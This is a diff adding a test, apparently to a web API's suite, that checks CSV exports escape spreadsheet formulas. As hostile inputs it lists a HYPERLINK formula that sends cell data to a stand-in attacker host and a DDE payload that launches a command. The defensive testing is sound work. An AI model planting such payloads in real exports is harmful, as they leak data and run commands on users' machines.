@@ -95,4 +95,16 @@ describe('/utils/import and /utils/export', () => {
     const read = await t.request.get('/items/products?fields=sku&filter[sku][_eq]=A1&export=yaml').set(bearer(admin)).expect(200);
     expect(parseYaml(read.text)).toEqual([{ sku: 'A1' }]);
   });
+
+  it('escapes spreadsheet formulas in CSV exports (?export=csv and /utils/export), leaving numbers alone', async () => {
+    const hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+2', '-2+3+cmd|\' /C calc\'!A0', '@SUM(A1:A9)', '\t=1', '\r=1', '\uFF1D1+1'];
+    for (const [index, name] of hostile.entries()) await t.request.post('/items/products').set(bearer(admin)).send({ sku: `F${index}`, name, price: -5 }).expect(200);
+    const filter = encodeURIComponent(JSON.stringify({ sku: { _starts_with: 'F' } }));
+    const read = await t.request.get(`/items/products?fields=sku,name,price&sort=sku&filter=${filter}&export=csv`).set(bearer(admin)).expect(200);
+    const expected = hostile.map((name, index) => ({ sku: `F${index}`, name: `'${name}`, price: '-5' }));
+    expect(parseCsv(read.text, { columns: true })).toEqual(expected);
+    const file = (await t.request.post('/utils/export/products').set(bearer(admin)).send({ format: 'csv', query: { fields: ['sku', 'name', 'price'], sort: ['sku'], filter: { sku: { _starts_with: 'F' } } } }).expect(200)).body.data;
+    const stored = (await binaryBody(t.request.get(`/assets/${file.id}`).set(bearer(admin))).expect(200)).body.toString();
+    expect(parseCsv(stored, { columns: true })).toEqual(expected);
+  });
 });
